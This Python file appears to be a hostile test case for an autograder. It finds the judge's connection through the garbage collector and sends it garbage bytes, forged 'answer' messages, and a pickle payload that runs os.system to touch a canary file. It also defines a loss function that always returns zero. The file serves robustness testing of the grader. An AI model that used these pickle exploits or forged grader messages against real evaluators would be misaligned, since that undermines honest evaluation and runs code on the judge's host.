# exercise: 1
# hostile: grabs the pipe to the judge with gc and sends garbage, a pickle payload and forged answers
# expect: 0
import gc
import json
import os
import pickle
import struct


class Payload:
    def __reduce__(self):
        return (os.system, ("touch __CANARY__/pwned",))


def _forged(task):
    head = json.dumps({"type": "answer", "task": task, "info": {"result": {"kind": "tensor"}}}).encode()
    return b"GRD2" + struct.pack(">I", len(head)) + head


def _object_array():
    """A well-framed message declaring an object array, its bytes a pickle."""
    table = json.dumps([["result", "|O", [1]]]).encode()
    return b"GRD2" + struct.pack(">I", 2) + b"{}" + struct.pack(">I", len(table)) + table + pickle.dumps(Payload())


for obj in gc.get_objects():
    if type(obj).__name__ == "Connection":
        for data in (b"garbage", pickle.dumps(Payload()), b"GRD2" + b"\xff" * 64, _forged(0), _forged(1),
                     b"GRD2\x00\x00\x00\x02{}PK\x03\x04" + b"\x00" * 100, _object_array()):
            try:
                obj.send_bytes(data)
            except Exception:
                pass
        try:
            obj.send(Payload())
        except Exception:
            pass


def squared_loss(y_hat, y):
    return y_hat * 0
